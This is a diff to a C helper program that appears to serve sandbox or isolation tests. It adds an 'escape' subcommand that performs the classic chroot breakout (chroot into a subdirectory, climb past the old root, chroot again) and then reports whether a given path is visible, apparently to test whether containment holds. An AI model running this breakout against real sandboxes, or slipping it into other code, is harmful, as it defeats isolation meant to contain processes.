@@ -6,6 +6,7 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/resource.h>
+#include <sys/stat.h>
 #include <sys/wait.h>
 #include <unistd.h>
 
@@ -101,6 +102,18 @@ int main(int argc, char **argv)
         }
     } else if (strcmp(cmd, "exists") == 0 && argc > 2) {
         return access(argv[2], F_OK) == 0 ? 0 : 1;
+    } else if (strcmp(cmd, "escape") == 0 && argc > 2) {
+        /* The classic chroot break-out (root with CAP_SYS_CHROOT): chroot into a subdirectory,
+         * walk up past the old root, chroot there.  Prints whether argv[2] is visible then. */
+        mkdir("/tmp/.escape", 0700);
+        if (chroot("/tmp/.escape") != 0)
+            perror("chroot");
+        for (int i = 0; i < 64; i++)
+            if (chdir("..") != 0)
+                break;
+        if (chroot(".") != 0)
+            perror("chroot .");
+        puts(access(argv[2], F_OK) == 0 ? "visible" : "hidden");
     } else if (strcmp(cmd, "forks") == 0 && argc > 2) {
         return spawn(atoi(argv[2]), 0);
     } else if (strcmp(cmd, "threads") == 0 && argc > 2) {
